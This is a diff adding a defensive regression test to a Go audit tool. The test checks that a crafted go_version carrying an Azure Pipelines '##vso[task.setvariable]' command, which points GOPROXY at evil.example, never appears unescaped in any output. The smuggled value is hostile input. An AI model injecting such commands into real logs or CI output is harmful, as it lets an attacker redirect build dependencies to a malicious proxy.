@@ -774,3 +774,22 @@ def test_a_reports_leak_kind_is_one_goscope_names_and_a_huge_number_is_data(tmp_
     big.write_text("\n".join([*lines[:-1], json.dumps(end)]) + "\n")
     out = goscope("audit", str(big))
     assert out.returncode == 3 and "Traceback" not in out.stderr, out.stderr
+
+
+def test_no_line_of_any_output_is_an_azure_pipelines_command(tmp_path):
+    """`##vso[task.setvariable]` in a crafted go version reached the text verdict and
+    `--json -` as it was: Azure Pipelines would have set GOPROXY for every later step."""
+    from .audit_runs import write_run
+
+    path = write_run(leaking_plan(), tmp_path)
+
+    def forge(lines):
+        lines[-1]["go_version"] = "##vso[task.setvariable variable=GOPROXY]https://evil.example"
+
+    rewrite(path, forge)
+    for extra in ([], ["--json", "-"], ["--markdown", "-"]):
+        out = goscope("audit", str(path), *extra)
+        assert out.returncode == 3, out.stderr
+        assert "##vso[" not in out.stdout + out.stderr, extra
+    out = goscope("audit", str(path), "--json", "-")
+    assert json.loads(out.stdout)["go_versions"][0]["go_version"].startswith("##vso[")
